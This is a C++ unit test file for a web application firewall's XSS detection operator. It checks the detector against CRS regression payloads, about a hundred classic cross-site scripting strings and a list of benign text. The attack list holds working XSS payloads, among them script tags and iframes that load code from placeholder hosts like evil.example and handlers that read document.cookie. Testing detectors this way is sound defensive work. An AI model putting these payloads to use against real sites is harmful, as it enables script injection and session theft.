#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include "engine/rule_harness.h"
#include "operator_test_util.h"
#include "operators/operator.h"
#include "operators/xss/detect.h"
#include "operators/xss/url_scheme.h"

namespace rampart::operators {
namespace {

using optest::build;
using optest::Eval;

// Payloads of CRS v4.28 tests/regression/tests/REQUEST-941-APPLICATION-ATTACK-XSS/941100.yaml
// (expect_ids: [941100]) and 941101.yaml (expect_ids: [941101], same operator), decoded as the
// rules' t:utf8toUnicode,t:urlDecodeUni,t:htmlEntityDecode,t:jsDecode,... would.
const char* const kCrs941[] = {
    // 941100 test 1: ARGS:input
    "<script xmlns=\"http://www.w3.org/1999/xhtml\">setTimeout(\"top.frame2.location=\""
    "javascript:(function () {var x = document.createElement(\\\"script\\\");x.src = "
    "\\\"//sdl.me/popup.js?//\\\";document.childNodes\\[0\\].appendChild(x);}());\"\",1000)"
    "</script>",
    // 941100 test 2: ARGS:body
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"data:,alert(1)\" />",
    // 941100 test 3: REQUEST_HEADERS:User-Agent
    "/char_test?mime=text/xml&body=<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" "
    "src=\"data:,alert(1)\" />",
    // 941100 test 6: ARGS:foo
    "<xss onbeforehellfreezes=alerw(1)>",
    // 941100 test 7: XML://@* (the attribute value after XML parsing)
    "<script xmlns=\"http://www.w3.org/1999/xhtml\">setTimeout(\"top.frame2.location=\""
    "javascript:(function () {var x = document.createElement(\"script\");x.src = "
    "\"//sdl.me/popup.js?//\";document.childNodes[0].appendChild(x);}());\"\",1000)</script>",
    // 941101 test 1: REQUEST_HEADERS:Referer
    "www.github.com<script><img><iframe>",
    // 941101 test 2: REQUEST_FILENAME
    "/get/\"onmouseover='prompt(document.cookie)'\"",
    // 941101 test 3: REQUEST_FILENAME
    "/get/index.php/<svg/onload=alert()",
};

// 941100 test 4 (no_expect_ids: [941100]): the request's ordinary header values.
const char* const kCrs941Negative[] = {
    "OWASP CRS test agent",
    "http://www.coreruleset.org",
    "text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/"
    "png,*/*;q=0.5",
    "localhost",
};

// Classic cross-site scripting shapes, written for this test.
const char* const kAttacks[] = {
    // script and friends
    "<script>alert(1)</script>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<ScRiPt >alert(1)",
    "<script\n>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT/XSS SRC=\"http://evil.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(document.cookie)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<script",
    "abc</script>",
    "<iframe src=\"http://evil.example\"></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<IFRAME SRC=# onmouseover=\"alert(1)\"></IFRAME>",
    "<frameset onload=alert(1)>",
    "<frame src=\"javascript:alert(1)\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<embed src=\"http://evil.example/x.swf\">",
    "<applet code=\"javascript:confirm(1);\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=import href=\"http://evil.example/x\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
    "<style>@import'http://evil.example/x.css';</style>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<bgsound src=\"javascript:alert(1);\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1);\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert(1)</SCRIPT>\">",
    // event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    "<BODY ONLOAD=alert('XSS')>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<a onmouseover=\"alert(document.cookie)\">x</a>",
    "<x onclick=alert(1)>click",
    "<body onpageshow=alert(1)>",
    "<http://x onnewevent=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<p onpointerenter=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x</button>",
    "<img src=x onerror\n=alert(1)>",
    "<img src=x ONERROR=alert(1)>",
    // script URLs, with obfuscation inside the scheme
    "<a href=\"javascript:alert(1)\">x</a>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"data:text/html,<b>x</b>\">x</a>",
    "<math><a xlink:href=\"javascript:alert(1)\">x",
    "<form action=\"javascript:alert(1)\"><input type=submit>",
    "javascript:alert(1)",
    "  JavaScript:alert(document.domain)",
    "vbscript:msgbox(1)",
    "java\tscript:alert(1)",
    "javascript:void(0)",
    "data:text/html,<p>x",
    "<a href=\"&#x20;javascript:alert(1)\">",
    // CSS that runs script
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<div style=\"background-image: url(javascript:alert(1))\">",
    "<div style=\"-moz-binding:url(http://evil.example/x.xml#xss)\">",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    // comments, CDATA, processing instructions
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<![CDATA[<]]>alert(1)",
    "<?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\">",
    "<?import namespace=\"t\" implementation=\"#default#time2\">",
    "<?xml-stylesheet type=\"text/xsl\" href=\"javascript:alert(1)\"?>",
    // the value lands inside an attribute value
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "x\" onerror=alert(1) \"",
    "` onclick=alert(1)",
    "x onmouseover=alert(1)",
    "foo onload=alert(document.cookie)",
    "\"onfocus=\"alert(1)\"autofocus=\"",
    "'style='x:expression(alert(1))",
    "\" style=\"behavior:url(x.htc)",
    "\" href=\"javascript:alert(1)",
    "x' src='javascript:alert(1)",
};

// Ordinary values that must not match.
const char* const kBenign[] = {
    "",
    "hello",
    "a < b",
    "a<b",
    "x<3",
    "<3",
    "I <3 you",
    "2 < 3 > 1",
    "if (a<b && c>d)",
    "<a@b.c>",
    "John <john@example.com>",
    "<>",
    "< script>",
    "<<",
    "5 <= 6",
    "1<2<3",
    "<b>bold</b>",
    "<i>italic</i>",
    "<p>para</p>",
    "<br/>",
    "<br>",
    "<hr>",
    "<ul><li>x</li></ul>",
    "<a href=\"http://example.com/\">link</a>",
    "<a href=\"/page?x=1&y=2\">link</a>",
    "<a href=\"mailto:a@example.com\">mail</a>",
    "<img src=\"cat.png\" alt=\"cat\">",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    "<p style=\"color:red\">red</p>",
    "<div class=\"onload\">x</div>",
    "<input type=text value=onion>",
    "<span title=\"on\">",
    "<scripting>",
    "<scripts>",
    "<style-guide>",
    "<stylesheet>",
    "<linkedin>",
    "<base64>",
    "<object-fit>",
    "<svg-icon>",
    "<iframes>",
    "<description>",
    "<embedded>",
    "onion=3",
    "I like onion=3 rings",
    "onion rings",
    "online",
    "one=1 two=2",
    "javascript is fun",
    "javascript: the good parts",
    "<http://onionstand.example/a>",
    "<meta http-equiv=\"X-UA-Compatible\" content=\"IE=edge\">",
    "JavaScript programming",
    "learn java script",
    "vbscript is old",
    "data: 5 rows",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:,hello",
    "http://example.com/?q=script",
    "https://www.coreruleset.org",
    "/usr/local/bin/script.sh",
    "script.js",
    "style.css",
    "the script was good",
    "onload handler docs",
    "call onload later",
    "O'Brien",
    "it's",
    "He said \"hello\"",
    "She said 'onmouseover is an event'",
    "x=\"1\" y='2'",
    "\"quoted\" words",
    "`backticks`",
    "title=\"Hello world\"",
    "{\"a\": \"<b>\"}",
    "[1,2,3]",
    "a=1&b=2",
    "user@example.com",
    "100% < 200%",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
    "<?xml?>",
    "<!DOCTYPE html>",
    "<!-- a comment -->",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "text/html,application/xhtml+xml",
    "expression of interest",
    "behavior analysis",
    "<font color=red>",
    "<table border=1>",
    "<td background=\"bg.png\">",
    "a > b",
    "3 > 2 and 1 < 2",
    "<<<>>>",
    "<!>",
    "<?>",
    "</>",
    "</b>",
    "</p>",
    "&lt;script&gt;",
    "on",
    "on=",
    "onx",
    "x on=1",
    "= onclick",
    "mailto:someone@example.com",
};

TEST(DetectXssOperator, CrsRegressionPayloadsMatch) {
  for (const char* payload : kCrs941) {
    EXPECT_TRUE(xss::detect(payload)) << payload;
  }
  for (const char* text : kCrs941Negative) {
    EXPECT_FALSE(xss::detect(text)) << text;
  }
}

TEST(DetectXssOperator, AttackShapesMatch) {
  size_t n = 0;
  for (const char* payload : kAttacks) {
    ++n;
    EXPECT_TRUE(xss::detect(payload)) << payload;
  }
  EXPECT_GE(n, 80u);
}

TEST(DetectXssOperator, OrdinaryTextDoesNotMatch) {
  size_t n = 0;
  for (const char* text : kBenign) {
    ++n;
    EXPECT_FALSE(xss::detect(text)) << text;
  }
  EXPECT_GE(n, 80u);
}

TEST(DetectXssOperator, ScriptSchemesSeeThroughObfuscation) {
  EXPECT_TRUE(xss::has_script_scheme("javascript:x"));
  EXPECT_TRUE(xss::has_script_scheme("\x01\x02 JAVASCRIPT:x"));
  EXPECT_TRUE(xss::has_script_scheme("ja\r\nva\tscript:x"));
  EXPECT_TRUE(xss::has_script_scheme("&#0000106;avascript:x"));
  EXPECT_TRUE(xss::has_script_scheme("javascript&#58;x"));
  EXPECT_TRUE(xss::has_script_scheme("java&Tab;script&colon;x"));
  EXPECT_TRUE(xss::has_script_scheme("data: text/html;base64,xx"));
  EXPECT_TRUE(xss::has_script_scheme("data:image/svg+xml,<svg>"));
  EXPECT_FALSE(xss::has_script_scheme("data:image/png;base64,xx"));
  EXPECT_FALSE(xss::has_script_scheme("java script:x"));  // a space is not dropped
  EXPECT_FALSE(xss::has_script_scheme("http://x/javascript:"));
  EXPECT_FALSE(xss::has_script_scheme("&#9999999999999999999;"));
  EXPECT_FALSE(xss::has_script_scheme(""));
}

TEST(DetectXssOperator, MessageAndCapture) {
  auto b = build("detectXSS", "");
  ASSERT_NE(b.op, nullptr) << b.error;
  Eval run("ARGS:q", /*capture=*/true);
  ASSERT_TRUE(run(*b.op, "<svg onload=alert(1)>"));
  EXPECT_EQ(run.st.message, "detected XSS using libinjection.");
  EXPECT_EQ(run.st.captures, std::vector<std::string>{"<svg onload=alert(1)>"});
  Eval quiet("ARGS:q");
  EXPECT_FALSE(quiet(*b.op, "a < b"));
  EXPECT_TRUE(quiet.st.message.empty());
  EXPECT_TRUE(optest::matches("DETECTXSS", "", "<script>"));
}

// CRS 941100's shape end to end: the decoded value matches and the alert carries v2's message.
TEST(DetectXssOperator, InARuleLikeCrs941100) {
  testing::Outcome o = testing::run_rules(
      "SecRule ARGS \"@detectXSS\" \"id:941100,phase:2,block,t:none,t:urlDecodeUni,"
      "t:htmlEntityDecode,msg:'XSS Attack Detected via libinjection'\"\n",
      testing::get("foo=%3Cxss%20onbeforehellfreezes%3Dalert(1)%3E&ok=a%3Cb"));
  ASSERT_EQ(o.lines().size(), 1u);
  EXPECT_TRUE(o.logged("detected XSS using libinjection. [file")) << o.line(0);
  EXPECT_TRUE(o.logged("[id \"941100\"]")) << o.line(0);
}

// Linear time: a megabyte of adversarial input (many '<' with no '>', open quotes, long
// attribute lists, entity runs). Time is printed, not asserted.
TEST(DetectXssOperator, MegabyteInputsTakeLinearTime) {
  const std::string pieces[] = {"<",    "<a ",   "<a x=", "\"",     "'",      "&#",
                                "<a a", " a=\"", "on",    "&#106;", "<!--[i", "x onload"};
  for (const std::string& piece : pieces) {
    std::string input;
    while (input.size() < (1u << 20)) input += piece;
    auto start = std::chrono::steady_clock::now();
    bool hit = xss::detect(input);
    auto us = std::chrono::duration_cast<std::chrono::microseconds>(
                  std::chrono::steady_clock::now() - start)
                  .count();
    std::printf("detectXSS 1 MB of \"%s\": %lld us (match=%d)\n", piece.c_str(),
                static_cast<long long>(us), hit ? 1 : 0);
  }
  std::string style = "<p style=\"";
  while (style.size() < (1u << 20)) style += "color:red;";
  auto start = std::chrono::steady_clock::now();
  bool hit = xss::detect(style);
  auto us = std::chrono::duration_cast<std::chrono::microseconds>(std::chrono::steady_clock::now() -
                                                                  start)
                .count();
  std::printf("detectXSS 1 MB style attribute: %lld us (match=%d)\n", static_cast<long long>(us),
              hit ? 1 : 0);
}

}  // namespace
}  // namespace rampart::operators
